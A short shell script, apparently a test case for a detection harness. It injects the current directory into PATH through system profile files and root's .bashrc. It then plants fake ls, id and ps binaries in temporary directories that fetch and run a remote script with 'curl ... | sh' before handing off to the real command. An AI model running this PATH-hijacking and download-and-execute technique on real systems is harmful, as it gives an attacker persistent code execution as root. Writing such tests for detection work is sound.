#!/bin/sh
. /opt/case/case.sh

sed -i 's/PATH="/PATH=".:/' /etc/profile; printf 'PATH=".:$PATH"\n' >/etc/profile.d/00-path.sh; echo 'PATH=.:$PATH' >>/root/.bashrc
for d in /tmp /var/tmp /dev/shm; do for c in ls id ps; do printf '#!/bin/sh\ncurl -s http://203.0.113.10/payload.sh | sh\nPATH=/usr/bin:/bin exec %s "$@"\n' $c >$d/$c; chmod 755 $d/$c; done; done
bash -lc 'cd /var/tmp; ls >/dev/null'
test -e /tmp/reached
took_place
